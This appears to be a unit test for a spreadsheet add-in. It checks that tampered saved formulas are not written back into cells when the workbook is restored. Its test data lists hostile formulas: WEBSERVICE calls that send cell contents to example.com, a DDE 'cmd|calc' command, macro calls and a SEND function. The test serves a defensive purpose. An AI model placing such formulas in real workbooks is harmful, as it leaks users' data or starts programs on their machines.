import { createFrozenStore } from '../../../src/settings/frozen-store';
import { freeze } from '../../../src/taskpane/freeze/freezing';
import { thaw } from '../../../src/taskpane/freeze/thawing';
import { createFakeWorkbookParts } from '../fake-workbook-parts';
import { createFakeGrid } from './fake-grid';

describe('a workbook that somebody has prepared', () => {
  it.each([
    '=WEBSERVICE(""https://example.com/?""&A1)&LOCATTR(1,2,""x"")',
    '=HYPERLINK(""https://example.com"",""Click"")',
    '=1+1',
    "=LOCATTR('C:\\\\[Book.xlsx]S'!A1,2,3)",
    '=LOCATTR(cmd|calc,2,3)',
    '=LOCATTR(1,2,Book!Macro(1))',
    '=LOCATTR(1,_xldudf_SEND(A1),3)',
    `='a""b'!A1&WEBSERVICE(""https://example.com/?""&B2)&LOCATTR(1,2,""x"")`,
    '=CONCAT(MAP(A1:A9,WEBSERVICE))&LOCATTR(1,2,""x"")',
  ])('has no %s typed into its cells', async (evil) => {
    const grid = createFakeGrid(['Sheet1', 'a"b']);
    grid.set('A1', [['=LOCATTR(1,2,"x")']]);
    grid.show('A1', 5);
    const held = createFakeWorkbookParts();
    const store = createFrozenStore(held.parts);
    const parts = { cells: grid.cells, store, now: () => 1, turn: () => Promise.resolve() };
    expect(await freeze(undefined, parts)).toMatchObject({ cells: 1 });
    const [xml = ''] = held.held;
    const planted = xml.replace(
      '=LOCATTR(1,2,\\"x\\")',
      evil.replaceAll('""', '\\"').replaceAll('&', '&amp;'),
    );
    expect(planted).not.toBe(xml);
    held.held.splice(0, 1, planted);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 1, problems: [] });
    expect(grid.read('A1')).toEqual([[5]]);
  });
});
